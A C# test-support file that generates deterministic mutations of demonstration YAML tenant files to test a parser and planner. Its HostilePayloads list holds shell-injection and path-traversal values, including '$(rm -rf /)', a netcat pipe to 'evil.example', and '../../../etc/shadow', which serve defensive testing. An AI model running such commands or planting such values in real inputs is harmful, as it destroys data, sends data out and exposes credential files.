using System.Text;
using System.Text.RegularExpressions;

namespace Fmj.Core.Tests.Support;

/// <summary>
/// One mangled copy of a demonstration tenant file. <see cref="Marker"/> is set when the mutation plants a
/// shell-hostile value: a word from it that must never reach a successful plan.
/// </summary>
public sealed record TenantMutation(string Name, string Tenant, string Text, string? Marker);

/// <summary>
/// Deterministic mutations of the demonstration tenant files: line edits, indentation, tabs, truncation, odd
/// values, YAML punctuation, missing colons, document separators and shell-hostile values. No randomness: the
/// same checkout always gives the same corpus, in the same order, with the same names.
/// </summary>
public static partial class TenantMutations
{
    /// <summary>Values that try to break out of a command line or a path, each with the word that gives it away.</summary>
    public static readonly (string Payload, string Marker)[] HostilePayloads =
    [
        ("$(rm -rf /)", "rm -rf"),
        ("; reboot", "reboot"),
        ("`halt`", "halt"),
        ("x && shutdown -h now", "shutdown"),
        ("a | nc evil.example 4444", "evil.example"),
        ("a\npoweroff", "poweroff"),
        ("x' ; wall 'pwned", "pwned"),
        ("../../../etc/shadow", "etc/shadow"),
    ];

    /// <summary>Keys whose text ends up in ids, names, paths or commands.</summary>
    private static readonly string[] NameKeys =
        ["name", "display_name", "cluster", "package", "domain", "netbios_name", "admin_group", "template", "base_dn", "bind_dn", "user_attribute", "group_dn", "cidr"];

    private static readonly string[] OddValues =
        ["[1, 2]", "{a: 1}", "\"quoted\"", "'42'", "99999999999999999999999", "-1", "", "~", "true", "0x1F", "1e3", ".inf", "\"\"", "*alias", "&anchor value", "!!binary aGk="];

    private static readonly string[] Punctuation = [":", "-", "[", "]", "{", "}", "\"", "'", "&", "*", "!", "|", ">", "#", "%", "@", "`", ",", "?", "\\"];

    public static IReadOnlyList<TenantMutation> All { get; } = Generate();

    public static TenantMutation ByName(string name) => All.Single(m => m.Name == name);

    public static IReadOnlyList<TenantMutation> Generate()
    {
        var all = new List<TenantMutation>();
        foreach (var tenant in Demo.TenantNames)
        {
            var original = Demo.TenantText(tenant);
            var lines = original.TrimEnd('\n').Split('\n');
            var count = lines.Length;

            void Add(string name, string text, string? marker = null)
            {
                if (text != original)
                {
                    all.Add(new TenantMutation($"{tenant}: {name}", tenant, text, marker));
                }
            }

            void AddLines(string name, IEnumerable<string> edited, string? marker = null) => Add(name, string.Join('\n', edited) + "\n", marker);

            for (var i = 0; i < count; i++)
            {
                var line = lines[i];
                var at = i + 1;
                AddLines($"delete line {at}", lines.Where((_, j) => j != i));
                AddLines($"duplicate line {at}", lines.SelectMany((l, j) => j == i ? new[] { l, l } : [l]));
                if (i + 1 < count)
                {
                    AddLines($"swap lines {at} and {at + 1}", Replace(lines, (i, lines[i + 1]), (i + 1, lines[i])));
                }

                AddLines($"indent line {at} by one space", Replace(lines, (i, " " + line)));
                if (line.StartsWith("  ", StringComparison.Ordinal))
                {
                    AddLines($"dedent line {at} by two spaces", Replace(lines, (i, line[2..])));
                    AddLines($"indent line {at} with a tab", Replace(lines, (i, "\t" + line.TrimStart(' '))));
                }

                if (line.Contains(':', StringComparison.Ordinal))
                {
                    AddLines($"remove the colon of line {at}", Replace(lines, (i, RemoveFirst(line, ':'))));
                    AddLines($"tab after the colon of line {at}", Replace(lines, (i, InsertAfterFirst(line, ':', "\t"))));
                }

                if (i % 5 == 0)
                {
                    AddLines($"'---' before line {at}", lines.Take(i).Append("---").Concat(lines.Skip(i)));
                    AddLines($"'...' before line {at}", lines.Take(i).Append("...").Concat(lines.Skip(i)));
                }

                if (KeyValue().Match(line) is { Success: true } match)
                {
                    var prefix = match.Groups["prefix"].Value;
                    var key = match.Groups["key"].Value;
                    var value = match.Groups["value"].Value;
                    for (var k = 0; k < OddValues.Length; k++)
                    {
                        // Every value line gets a third of the odd values, rotating, so each kind meets many keys.
                        var odd = OddValues[k];
                        if ((k + i) % 3 == 0)
                        {
                            AddLines($"line {at}: {key} = {Show(odd)}", Replace(lines, (i, $"{prefix}{key}: {odd}".TrimEnd())));
                        }
                    }

                    if (value.Length == 0)
                    {
                        AddLines($"line {at}: {key} = 5 instead of a section", Replace(lines, (i, $"{prefix}{key}: 5")));
                        AddLines($"line {at}: {key} = [] instead of a section", Replace(lines, (i, $"{prefix}{key}: []")));
                    }
                    else if (NameKeys.Contains(key))
                    {
                        foreach (var (payload, marker) in HostilePayloads)
                        {
                            AddLines($"line {at}: {key} = \"{Show(payload)}\"", Replace(lines, (i, $"{prefix}{key}: {DoubleQuoted(payload)}")), marker);
                            AddLines($"line {at}: {key} = \"{Show(value + payload)}\" (appended)", Replace(lines, (i, $"{prefix}{key}: {DoubleQuoted(value + payload)}")), marker);
                            if (!payload.Contains('\n', StringComparison.Ordinal))
                            {
                                AddLines($"line {at}: {key} = {Show(payload)} (plain)", Replace(lines, (i, $"{prefix}{key}: {payload}")), marker);
                            }
                        }
                    }
                }
                else if (ListItem().Match(line) is { Success: true } item)
                {
                    foreach (var (payload, marker) in HostilePayloads)
                    {
                        AddLines($"line {at}: list item = \"{Show(payload)}\"", Replace(lines, (i, $"{item.Groups["prefix"].Value}{DoubleQuoted(payload)}")), marker);
                    }
                }
            }

            // YAML punctuation at the start of a line, at the start of a value and at the end of a line.
            for (var p = 0; p < Punctuation.Length; p++)
            {
                for (var k = 0; k < 3; k++)
                {
                    var i = ((p * 7) + (k * 13) + 1) % count;
                    var line = lines[i];
                    var colon = line.IndexOf(':', StringComparison.Ordinal);
                    var indent = line.Length - line.TrimStart(' ').Length;
                    var (where, column) = k switch
                    {
                        0 => ("at the start of", indent),
                        1 => ("at the value of", colon < 0 ? line.Length : Math.Min(line.Length, colon + 2)),
                        _ => ("at the end of", line.Length),
                    };
                    AddLines($"'{Punctuation[p]}' {where} line {i + 1}", Replace(lines, (i, line.Insert(column, Punctuation[p]))));
                }
            }

            // Truncation at twenty points through the file, and inside a word.
            for (var t = 0; t < 20; t++)
            {
                var length = original.Length * t / 20;
                Add($"truncated to {length} characters", original[..length]);
            }

            Add("truncated to the first line", lines[0] + "\n");
            Add("without its final newline", original.TrimEnd('\n'));
            Add("with Windows line endings", original.Replace("\n", "\r\n", StringComparison.Ordinal));
            Add("with a byte order mark", "\uFEFF" + original);
            Add("with a second document", original + "---\nname: other\n");
            Add("with a NUL character", original.Insert(original.Length / 2, "\0"));
            Add("with a very long line", original + "display_note: " + new string('x', 100_000) + "\n");
            Add("nested a thousand lists deep", original + "nodes: " + new string('[', 1000) + new string(']', 1000) + "\n");
            Add("with an anchor and aliases", original.Replace("cluster: dev", "cluster: &c dev\nnodes: [*c, *c]", StringComparison.Ordinal));
            Add("as a list", "- " + original.Replace("\n", "\n  ", StringComparison.Ordinal).TrimEnd(' '));
            Add("as a single text value", "\"" + tenant + "\"\n");
            Add("empty", "");
            Add("only a comment", lines[0] + "\n");
            Add("only whitespace", "   \n\n  \n");

            // Shell-hostile node names.
            foreach (var (payload, marker) in HostilePayloads)
            {
                Add($"nodes = [\"{Show(payload)}\"]", original + $"nodes: [{DoubleQuoted(payload)}]\n", marker);
            }
        }

        return all;
    }

    private static string[] Replace(string[] lines, params (int Index, string Line)[] edits)
    {
        var copy = (string[])lines.Clone();
        foreach (var (index, line) in edits)
        {
            copy[index] = line;
        }

        return copy;
    }

    private static string RemoveFirst(string line, char c) => line.Remove(line.IndexOf(c, StringComparison.Ordinal), 1);

    private static string InsertAfterFirst(string line, char c, string text) => line.Insert(line.IndexOf(c, StringComparison.Ordinal) + 1, text);

    private static string DoubleQuoted(string value)
    {
        var builder = new StringBuilder("\"");
        foreach (var c in value)
        {
            builder.Append(c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                '\n' => "\\n",
                _ => c.ToString(),
            });
        }

        return builder.Append('"').ToString();
    }

    /// <summary>A value as it appears in a mutation's name: one line, short.</summary>
    private static string Show(string value) => value.Length == 0 ? "(empty)" : value.Replace("\n", "\\n", StringComparison.Ordinal);

    [GeneratedRegex(@"^(?<prefix> *(?:- )?)(?<key>[a-z_]+):(?: (?<value>.*))?$", RegexOptions.CultureInvariant)]
    private static partial Regex KeyValue();

    [GeneratedRegex(@"^(?<prefix> *- )(?<value>[^:]+)$", RegexOptions.CultureInvariant)]
    private static partial Regex ListItem();
}
